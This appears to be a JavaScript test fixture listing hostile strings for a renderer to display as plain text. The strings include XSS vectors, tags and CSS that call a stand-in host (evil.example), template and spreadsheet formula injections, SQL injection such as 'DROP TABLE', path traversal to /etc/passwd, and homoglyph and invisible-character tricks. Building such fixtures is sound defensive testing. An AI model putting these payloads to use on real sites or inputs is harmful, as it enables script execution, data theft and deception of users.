// Hostile text, as a report, a headline, a name or a quote may hold it: what a browser might run, fetch or misread, and what a reader might.
// Each is text to be shown as text.

const SCRIPTS = ["alert(1)", "window.__faults.push('ran')"];
const HOST = "https://evil.example";

/** Elements that run or fetch something, with every way of writing the handler. */
const elements = SCRIPTS.flatMap((js) => [
  `<script>${js}</script>`,
  `<SCRIPT>${js}</SCRIPT>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<script src="${HOST}/x.js"></script>`,
  `<script type="module">import "${HOST}/m.js"; ${js}</script>`,
  `"><script>${js}</script>`,
  `'><script>${js}</script>`,
  `</title><script>${js}</script>`,
  `</textarea><script>${js}</script>`,
  `</style><script>${js}</script>`,
  `--><script>${js}</script>`,
  `]]><script>${js}</script>`,
  `<img src=x onerror="${js}">`,
  `<img src=x onerror=${js}>`,
  `<img/src=x/onerror=${js}>`,
  `<img src="x\` onerror=${js} \`">`,
  `<IMG """><SCRIPT>${js}</SCRIPT>">`,
  `<svg onload="${js}">`,
  `<svg/onload=${js}>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${js}"/>`,
  `<svg><a xlink:href="javascript:${js}"><text y=9>x</text></a></svg>`,
  `<svg><foreignObject><body onload=${js}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${js}'/>#x"/></svg>`,
  `<math><mtext><img src=x onerror=${js}></mtext></math>`,
  `<math href="javascript:${js}">x</math>`,
  `<body onload=${js}>`,
  `<body onpageshow=${js}>`,
  `<video><source onerror=${js}></video>`,
  `<audio src=x onerror=${js}>`,
  `<input autofocus onfocus=${js}>`,
  `<select autofocus onfocus=${js}>`,
  `<textarea autofocus onfocus=${js}>`,
  `<details open ontoggle=${js}>`,
  `<marquee onstart=${js}>`,
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<embed src="javascript:${js}">`,
  `<form action="javascript:${js}"><button>x</button></form>`,
  `<button formaction="javascript:${js}">x</button>`,
  `<isindex action="javascript:${js}" type=image>`,
  `<a href="javascript:${js}">x</a>`,
  `<a href="JaVaScRiPt:${js}">x</a>`,
  `<a href="&#106;avascript:${js}">x</a>`,
  `<a href="java\tscript:${js}">x</a>`,
  `<a href="\u0001javascript:${js}">x</a>`,
  `<a href="data:text/html,<script>${js}</script>">x</a>`,
  `<base href="javascript:${js}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  `<template><script>${js}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<div style="animation:x" onanimationstart=${js}>`,
  `<p onpointerenter=${js} style="position:fixed;inset:0">`,
  `<dialog open onclose=${js}>`,
  `<xss id=x tabindex=1 onfocus=${js}></xss>`,
  `javascript:${js}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:${js}`,
]);

/** Things that would call home. */
const calls = [
  `<img src="${HOST}/p.png">`,
  `<img srcset="${HOST}/p.png 1x">`,
  `<picture><source srcset="${HOST}/p.png"><img></picture>`,
  `<link rel="stylesheet" href="${HOST}/x.css">`,
  `<link rel="prefetch" href="${HOST}/x">`,
  `<link rel="preconnect" href="${HOST}">`,
  `<link rel="icon" href="${HOST}/x.ico">`,
  `<iframe src="${HOST}"></iframe>`,
  `<object data="${HOST}"></object>`,
  `<video poster="${HOST}/p.png"></video>`,
  `<audio src="${HOST}/a.mp3" autoplay></audio>`,
  `<track src="${HOST}/t.vtt">`,
  `<input type="image" src="${HOST}/p.png">`,
  `<table background="${HOST}/p.png">`,
  `<svg><image href="${HOST}/p.png"/></svg>`,
  `<svg><use href="${HOST}/x.svg#a"/></svg>`,
  `<meta http-equiv="refresh" content="0;url=${HOST}">`,
  `<form action="${HOST}" method="post"><input name=a autofocus></form>`,
  `<a href="${HOST}" ping="${HOST}/ping">x</a>`,
  `<portal src="${HOST}"></portal>`,
  `//evil.example/x`,
  `\\\\evil.example\\share`,
  `${HOST}/a b?c=<d>`,
  `http://user:pass@evil.example:80/`,
  `/../../../../etc/passwd`,
  `//evil.example%2f..`,
  `file:///etc/passwd`,
];

const css = [
  `<style>*{background:url(${HOST}/x)}</style>`,
  `<style>@import "${HOST}/x.css";</style>`,
  `<div style="background:url(${HOST}/x)">`,
  `<div style="width:expression(alert(1))">`,
  `<div style="position:fixed;inset:0;z-index:9999">covered</div>`,
  `</style><style>body{display:none}</style>`,
  `red;background:url(${HOST}/x)`,
  `expression(alert(1))`,
  `url(${HOST}/x)`,
  `}*{display:none}`,
  `--q1: red; }`,
  `<font face="x" size="99">`,
];

const templates = [
  "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= 7*7 %>", "{% raw %}", "{@html '<img src=x onerror=alert(1)>'}",
  "{#if true}x{/if}", "[[${7*7}]]", "`${alert(1)}`", "@{alert(1)}", "$$alert(1)$$", "v-on:click=alert(1)", "ng-init=\"alert(1)\"", "{alert(1)}", "</svelte:head>",
  "__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "null", "undefined", "NaN", "[object Object]", "true", "0", "-1", "",
];

const markdown = [
  "[x](javascript:alert(1))", `![x](${HOST}/p.png)`, "<javascript:alert(1)>", "[x]: javascript:alert(1)", "[x](data:text/html,<script>alert(1)</script>)", "```<script>alert(1)</script>```",
  `<img src=x onerror=alert(1)>_x_`, "| a | b |\n| - | - |", "# heading", "**bold** <b>bold</b>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&amp;lt;b&amp;gt;",
  "=HYPERLINK(\"https://evil.example\")", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "\t=1+1",
];

/** Characters that are not seen, or turn others round. */
const unseen = [
  "\u202etxt.exe\u202c", "\u202dabc\u202c", "\u2066left\u2069", "\u2067right\u2069", "\u2068first\u2069", "\u202aabc", "\u202babc", "\u200eabc\u200f", "\u061cabc", "abc\u2069\u2069\u202e",
  "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "a\u034fb", "a\u180eb", "a\u3164b", "a\uffa0b", "a\u2063b", "\u{e0061}\u{e0062}", "a\ufff9b\ufffac\ufffb",
  "Serbia\u200b", "Kos\u200dovo", "\u202eaibreS", "مرحبا <b>x</b> שלום", "\u2067<script>alert(1)</script>\u2069", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c",
  "\u202e".repeat(200), "\u0336".repeat(60) + "x", "﷽".repeat(20),
];

/** Letters that look like others. */
const lookalikes = [
  "Sеrbia", "Коsovo", "Rusѕia", "Ιran", "Сhina", "Uкraine", "Εthiopia", "Αrmenia", "ＵＳＡ", "𝐑𝐮𝐬𝐬𝐢𝐚", "𝖪𝗈𝗌𝗈𝗏𝗈", "Ꭱussia", "lraq", "rn0scow", "Wаshington", "Βrussels", "Ⅿoscow", "ℭhina",
];

const control = [
  "a\u0001b", "a\u0007b", "a\u0008b", "a\u000bb", "a\u000cb", "a\u001bb", "a\u001b[31mred", "a\u007fb", "a\u0080b", "a\u009fb", "a\u2028b", "a\u2029b", "a\u0085b", "a\rb", "a\nb", "a\tb", "\\u0000", "%00", "\\x3cscript\\x3e",
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\u{10ffff}", "\ufdd0", "\ufffd", "x".repeat(5000), "W".repeat(300), "a ".repeat(400), "'; DROP TABLE reports; --", "' OR 1=1 --", "1; COPY events TO '/tmp/x'",
];

export const PAYLOADS = [...new Set([...elements, ...calls, ...css, ...templates, ...markdown, ...unseen, ...lookalikes, ...control])];
